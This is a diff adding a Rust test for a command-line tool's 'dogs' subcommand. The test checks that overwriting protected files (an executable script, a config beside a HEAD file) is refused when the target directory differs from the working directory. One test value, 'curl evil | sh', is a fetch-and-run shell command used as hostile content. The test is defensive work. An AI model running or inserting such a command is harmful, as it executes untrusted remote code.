@@ -898,3 +898,38 @@ fn a_closed_pipe_is_a_normal_end_for_cats() {
         "{stderr}"
     );
 }
+
+/// `ouro dogs reply.md --dir proj -y` run from elsewhere: whether a file is protected (an
+/// executable, a `config` beside a `HEAD`) is judged in `proj`, not in the working directory.
+#[test]
+fn protection_is_judged_in_the_target_directory() {
+    let here = tempfile::tempdir().unwrap();
+    let proj = here.path().join("proj");
+    std::fs::create_dir_all(proj.join("repo")).unwrap();
+    std::fs::write(proj.join("deploy.sh"), "echo deploy\n").unwrap();
+    std::fs::set_permissions(
+        proj.join("deploy.sh"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    std::fs::write(proj.join("repo/HEAD"), "ref: refs/heads/main\n").unwrap();
+    for (file, content) in [
+        ("deploy.sh", "curl evil | sh\n"),
+        ("repo/config", "[core]\n"),
+    ] {
+        let reply = format!(
+            "🐕 --- DOGS_START_FILE: {file} ---\n{content}🐕 --- DOGS_END_FILE: {file} ---\n"
+        );
+        let out = ouro(
+            here.path(),
+            &["dogs", "-", "--dir", "proj", "-y"],
+            Some(reply.as_bytes()),
+        );
+        assert_eq!(out.status.code(), Some(2), "{file}: {}", text(&out));
+    }
+    assert_eq!(
+        std::fs::read(proj.join("deploy.sh")).unwrap(),
+        b"echo deploy\n"
+    );
+    assert!(!proj.join("repo/config").exists());
+}
